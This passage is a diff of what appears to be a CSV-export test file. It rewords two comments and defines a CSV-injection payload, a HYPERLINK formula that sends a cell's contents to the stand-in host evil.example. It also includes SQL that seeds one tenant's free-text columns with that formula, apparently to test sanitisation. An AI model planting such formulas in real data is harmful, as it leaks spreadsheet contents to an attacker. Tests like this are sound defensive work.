@@ -14,10 +14,10 @@ beforeAll(async () => {
 });
 afterAll(() => world.close());
 
-/** What a spreadsheet would carry out (OWASP, CSV Injection). */
+/** A formula that a spreadsheet would run (OWASP, CSV Injection). */
 const formula = '=HYPERLINK("https://evil.example?"&A1)';
 
-/** Before each name, text and address of the practice that may be any. */
+/** SQL that prefixes every free-text column of the practice with the formula. */
 const laidOn = (tenantId: number) => `do $$ declare c record; begin
   for c in select a.attrelid::regclass as name, quote_ident(a.attname) as text
     from pg_attribute a join pg_attribute t on t.attrelid = a.attrelid and t.attname = 'tenant_id'
